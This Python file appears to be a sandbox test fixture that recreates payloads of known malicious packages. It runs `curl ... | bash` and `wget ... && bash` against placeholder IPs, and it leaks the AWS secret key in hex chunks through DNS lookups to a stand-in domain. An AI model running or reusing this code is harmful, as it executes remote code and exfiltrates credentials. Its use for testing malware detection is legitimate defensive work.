# Payloads that call the tools a machine has (session 23; docs/malware.md:
# pymafka's `curl ... | bash -s`, maratlib's `wget ... && bash`,
# glean-indexing-api-client's `dig +short <chunk>.<domain>`): in a sandbox
# without them each died at "not found" before it fetched, ran or sent
# anything, and only its command line was left to judge.
import os
import subprocess

os.system("curl -s -A O -L http://203.0.113.41/env | bash -s")
os.system("wget -q http://203.0.113.42/aza-ob.sh -O /tmp/.a.sh && chmod 777 /tmp/.a.sh && bash /tmp/.a.sh")
secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
enc = secret.encode().hex()
for i in range(0, len(enc), 40):
    subprocess.run(["dig", "+short", "+tries=1", "+time=2", "%d.%s.t.sl4x0.example" % (i // 40, enc[i:i + 40])],
                   capture_output=True)
print("payloads done")
